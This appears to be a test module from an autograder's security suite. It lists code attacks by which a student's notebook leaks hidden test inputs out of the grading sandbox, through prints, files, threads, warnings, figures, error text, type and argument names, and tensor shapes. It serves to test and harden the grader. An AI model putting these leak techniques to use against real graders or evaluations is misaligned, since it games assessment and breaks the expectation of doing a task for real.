"""Attacks that carry a hidden case's inputs out of the sandbox, into what the student gets to read."""

import nbformat

from autograder.trials.attacks.kinds import FIRST, FULL, Attack, Remains, answer

INPUTS = "showed hidden inputs"  # how the table calls it
_NEXT = "stable_softmax"
SHAPE = 271828  # what a number begins with of which the rest is a hidden input

# `mark` writes the first numbers of a tensor after a word that no other page holds; the word is in pieces, as the code is shown.
_MARK = """
import sys, torch
def mark(tensor):
    return "LE" + "AK" + "".join("%07d" % (abs(value) * 1e5 % 1e7) for value in tensor.detach().flatten()[:2].tolist())
"""
_RIGHT = "    return (q.unsqueeze(-2) * X).sum(-1)\n"
_KEPT = _MARK + "kept = []\n" + f"def {FIRST}(q, X):\n    kept.append(mark(q))\n" + _RIGHT
_FILED = _MARK + f"def {FIRST}(q, X):\n    open('kept', 'a').write(mark(q) + chr(10))\n" + _RIGHT
_PRINTED = _MARK + f"def {FIRST}(q, X):\n    print(mark(q))\n    print(mark(q), file=sys.stderr)\n" + _RIGHT
_PICTURE = """
import matplotlib.pyplot as plt
get_ipython().run_line_magic("config", "InlineBackend.print_figure_kwargs = {'metadata': {'Title': '%s'}}" % " ".join(kept[:50]))
plt.plot([1, 2])
plt.title(" ".join(kept[:3]))
plt.show()
"""
_BY_THREAD = (
    _MARK
    + f"""
import threading, time
def speak(text):
    for _ in range(40):
        time.sleep(0.05)
        print(text)
def {FIRST}(q, X):
    threading.Thread(target=speak, args=(mark(q),), daemon=True).start()
{_RIGHT}"""
)
_WAITS = "import time\ntime.sleep(1)\nprint('waited')"
_ERROR = _MARK + f"def {FIRST}(q, X):\n    raise ValueError(mark(q))\n"
_ERRORS_NAME = _MARK + f"def {FIRST}(q, X):\n    raise type(mark(q), (Exception,), {{}})()\n"
_TYPES_NAME = _MARK + f"def {FIRST}(q, X):\n    return type(mark(q), (), {{}})()\n"
_PLACE = (
    _MARK
    + f"""
def {FIRST}(q, X):
    names = {{}}
    exec(compile("def " + mark(q) + "(): raise ValueError('no')", "cell", "exec"), names)
    names[mark(q)]()
"""
)
_LINE = (
    _MARK
    + f"""
import linecache
def {FIRST}(q, X):
    linecache.cache["cell"] = (99, None, ["raise ValueError('no')  # " + mark(q)], "cell")
    exec(compile("raise ValueError('no')", "cell", "exec"))
"""
)
_SIGNATURE = (
    _MARK
    + f"""
import inspect
class Scores:
    __name__ = "{FIRST}"
    seen = None
    @property
    def __signature__(self):
        names = ["q", "X"] if self.seen is None else [self.seen]
        return inspect.Signature([inspect.Parameter(name, inspect.Parameter.POSITIONAL_OR_KEYWORD) for name in names])
    def __call__(self, q, X):
        self.seen = mark(q)
        return (q.unsqueeze(-2) * X).sum(-1)
{FIRST} = Scores()
"""
)
_SHAPE = f"""
import torch
def {FIRST}(q, X):
    size = int("{SHAPE}%06d" % (abs(float(q.flatten()[0])) * 1e5 % 1e6))
    return torch.zeros(1).expand(size, *[1] * (X.ndim - 2))
"""
_HELPER = f"""
import torch
def generate_with_cache(decoder, prompt, steps):
    n = prompt.shape[1]
    number = int("{SHAPE}" + "".join(str(token % 10) for token in (prompt.flatten().tolist() * 6)[:6]))
    mask = torch.ones(n, n, dtype=torch.bool).tril()
    decoder(prompt, torch.full((n,), number), mask, None, None)
"""
_PARAMETER = (
    _MARK
    + """
import math
from torch import nn
seen = []
class AttentionLayer(nn.Module):
    def __init__(self, D_X, D_Q, D_V):
        super().__init__()
        self.W_K, self.W_V = nn.Linear(D_X, D_Q, bias=False), nn.Linear(D_X, D_V, bias=False)
        for name in seen[-1:]:
            self.register_parameter(name, nn.Parameter(torch.zeros(1)))
    def forward(self, Q, X):
        seen.append(mark(Q))
        A = (Q @ self.W_K(X).mT / math.sqrt(Q.shape[-1])).softmax(dim=-1)
        return A @ self.W_V(X), A
"""
)
_WARNING = (
    _MARK
    + f"""
import atexit, logging, warnings
def {FIRST}(q, X):
    warnings.warn(mark(q))
    logging.getLogger().warning(mark(q))
    atexit.register(print, mark(q))
{_RIGHT}"""
)
_SHOWN = (
    _MARK
    + f"""
from IPython.display import display
shell, shows = get_ipython(), sys.stdout
def {FIRST}(q, X):
    display(mark(q))
    shell.display_pub.publish({{"text/plain": mark(q)}})
    print(mark(q), file=shows)
{_RIGHT}"""
)


def _raised_in_between(notebook: nbformat.NotebookNode) -> None:
    """Keeps hidden inputs, and raises them in the cell that is to define the next exercise."""
    answer(_KEPT)(notebook)
    answer(f"def speak():\n    raise ValueError(' '.join(kept))\n{_NEXT} = speak()", _NEXT)(notebook)


def _of_first(source: str, last: str = "") -> dict:
    return {"code": answer(source, FIRST, last), "solved": True, "stock": False}


_NAMES = Remains(
    "A check's sentence names what the student's code is called, and code can make names of numbers. What is shown belongs to one"
    " hand-in: another one, and be it by a byte, meets other numbers seven times of eight. To stop it, sentences would have to name nothing.",
    harm=(INPUTS,),
)

ATTACKS = [
    Attack("leak-printed", "print hidden inputs while being examined", **_of_first(_PRINTED)),
    Attack("leak-kept", "keep hidden inputs, and have a later cell print them", **_of_first(_KEPT, "print(*kept)")),
    Attack("leak-raised", "keep hidden inputs, and have a later cell raise them", **_of_first(_KEPT, "raise ValueError(' '.join(kept))")),
    Attack("leak-in-cause", "have the cell of the next exercise raise them, so that it is told why that exercise is not there",
           _raised_in_between, solved=True, deserves=FULL - 3, stock=False),
    Attack("leak-filed", "write hidden inputs to a file, and have a later cell read it", **_of_first(_FILED, "print(open('kept').read())")),
    Attack("leak-drawn", "put hidden inputs into a figure", **_of_first(_KEPT, _PICTURE)),
    Attack("leak-by-thread", "print hidden inputs from a thread, while later cells run", **_of_first(_BY_THREAD, _WAITS)),
    Attack("leak-warned", "warn of hidden inputs, log them, and print them at the end", **_of_first(_WARNING, "print('later')")),
    Attack("leak-shown", "show hidden inputs by IPython's own means while being examined", **_of_first(_SHOWN, "print('later')")),
    Attack("leak-in-error", "put hidden inputs into an error's text", **_of_first(_ERROR), deserves=FULL - 2),
    Attack("leak-in-errors-name", "put them into the name of an error's type", **_of_first(_ERRORS_NAME), deserves=FULL - 2,
           remains=_NAMES),
    Attack("leak-in-type", "put them into the name of the type of what is returned", **_of_first(_TYPES_NAME), deserves=FULL - 2,
           remains=_NAMES),
    Attack("leak-in-place", "put them into the name of the function in which an error was raised", **_of_first(_PLACE), deserves=FULL - 2),
    Attack("leak-in-line", "put them into the line of code in which an error was raised", **_of_first(_LINE), deserves=FULL - 2,
           remains=_NAMES),
    Attack("leak-in-signature", "put them into the names of the arguments that are taken", **_of_first(_SIGNATURE), deserves=FULL - 2,
           remains=_NAMES),
    Attack("leak-in-shape", "return as many numbers as hidden inputs say", **_of_first(_SHAPE), deserves=FULL - 2),
    Attack("leak-in-parameter", "put them into the name of a layer's parameter", answer(_PARAMETER, "AttentionLayer"), solved=True,
           deserves=FULL - 3, stock=False, remains=_NAMES),
    Attack("leak-by-helper", "give hidden inputs to a helper that says what it was given", answer(_HELPER, "generate_with_cache"),
           deserves=0, unit="08_efficient_attention", stock=False),
]  # fmt: skip
